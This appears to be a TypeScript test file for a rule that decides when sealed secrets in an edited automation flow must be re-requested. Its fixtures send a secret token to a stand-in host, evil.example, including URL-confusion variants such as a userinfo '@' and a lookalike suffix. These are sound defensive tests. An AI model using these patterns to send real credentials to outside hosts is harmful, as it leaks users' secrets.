import { describe, expect, it } from 'vitest';
import type { FlowAction, FlowDocument, FlowSettings, FlowVariable } from '../flow.model.ts';
import { action, flowOf } from '../flows.fixture.ts';
import { keepableSecrets } from './secret-destinations.rules.ts';

const environmentUrl = '{{ where }}';
const signIn = (id: string) => action(id, 'oauthAuthentication', { environmentUrl });
const sealed = { kind: 'insecure', sealed: 'sealed' };

const numbered = <Made>(length: number, make: (index: number) => Made): readonly Made[] =>
  Array.from({ length }, (_, index) => make(index));

describe('where secrets are sent', () => {
  it('is told in time that grows with the document, however many sign in by a template', () => {
    const flow = flowOf({
      actions: [
        ...numbered(300, (index) => signIn(`in${index}`)),
        ...numbered(300, (index) => action(`out${index}`, 'httpRequest', { secret: sealed })),
        action('long', 'log', { message: 'x'.repeat(100_000) }),
      ],
    });
    expect(keepableSecrets(flow, structuredClone(flow)).size).toBe(300);
    const [first, ...rest] = flow.actions;
    const other = { ...flow, actions: [{ ...signIn('in0'), settings: {} }, ...rest] };
    expect(first?.id).toBe('in0');
    expect(keepableSecrets(flow, other).size).toBe(0);
  });

  describe('of what a secure variable holds at the start', () => {
    const token = { name: 'token', type: 'String', secure: true, initial: sealed } as const;
    const copy = { name: 'copy', type: 'String' } as const;
    const call = (id: string, requestUrl: string, more: FlowSettings = {}) =>
      action(id, 'httpRequest', {
        ...{ useAuthenticatedEndpoint: false, requestUrl, method: 'GET' },
        headers: [{ name: 'key', value: '{{ token }}' }],
        ...more,
      });
    const set = (variable: string, value: string) =>
      action('set', 'setVariable', { assignments: [{ variable, value }] });
    const holding = (...actions: readonly FlowAction[]) =>
      flowOf({ actions, variables: [token, copy] });
    const before = holding(call('ask', 'https://api.example/a'));
    const keeps = (after: FlowDocument, from = before) => keepableSecrets(from, after).size === 1;

    it('is kept for what it was used for, on the same host', () => {
      const other = { ...call('ask', 'https://API.example/b?c={{ copy }}'), name: 'Ask again' };
      const bare = { ...token, initial: { kind: 'insecure' } };
      expect([
        keeps(holding()),
        keeps(holding(other, action('log', 'log', { message: 'done' }))),
        keeps({ ...holding(other), variables: [bare as unknown as FlowVariable, copy] }),
        keeps(holding(set('copy', '{{ token }}'), call('ask', 'https://api.example/'))),
      ]).toEqual([true, true, true, true]);
    });

    it.each<[string, ...FlowAction[]]>([
      ['another host', call('ask', 'https://evil.example/a')],
      ['a host before an @', call('ask', 'https://api.example@evil.example/')],
      ['a host with more', call('ask', 'https://api.example.evil/')],
      ['a host made of a template', call('ask', 'https://api.example{{ copy }}/')],
      ['one more call', call('ask', 'https://api.example/a'), call('more', 'https://evil.example')],
      ['words to the customer', action('say', 'sendResponse', { text: 'It is {{ token }}' })],
      ['a log', action('log', 'log', { message: '{{ token | upper }}' })],
      ['a question about it', action('if', 'condition', { left: '{{ token[0] }}', right: 'a' })],
      [
        'a copy that is called with',
        set('copy', '{{ token }}'),
        call('more', 'https://evil.example/', { headers: [{ name: 'k', value: '{{ copy }}' }] }),
      ],
      [
        'participant data that is read again',
        action('lend', 'setParticipantData', { attributes: [{ name: 'a', value: '{{ token }}' }] }),
      ],
      [
        'a subflow',
        action('sub', 'subflow', { flow: 'x', inputs: [{ name: 'a', value: '{{ token }}' }] }),
      ],
      [
        'a client of another server',
        action('in', 'oauthAuthentication', {
          environmentUrl: 'https://evil.example',
          clientSecret: { kind: 'variable', name: 'token' },
        }),
      ],
    ])('is asked for again for %s', (_, ...actions) => {
      expect(keeps(holding(...actions))).toBe(false);
    });

    it('is asked for again where it leaves the flow, and where the way to it changes', () => {
      const out = { ...before, variables: [{ ...token, output: true }, copy] };
      expect(keeps(out)).toBe(false);
      const led = holding(set('copy', 'api'), call('ask', 'https://{{ copy }}.example/'));
      const elsewhere = holding(set('copy', 'evil'), call('ask', 'https://{{ copy }}.example/'));
      expect([keeps(structuredClone(led), led), keeps(elsewhere, led)]).toEqual([true, false]);
    });
  });

  it('is not asked where nothing is sealed', () => {
    const flow = flowOf({ actions: [signIn('in'), action('out', 'httpRequest')] });
    expect(keepableSecrets(flow, flow).size).toBe(0);
  });
});
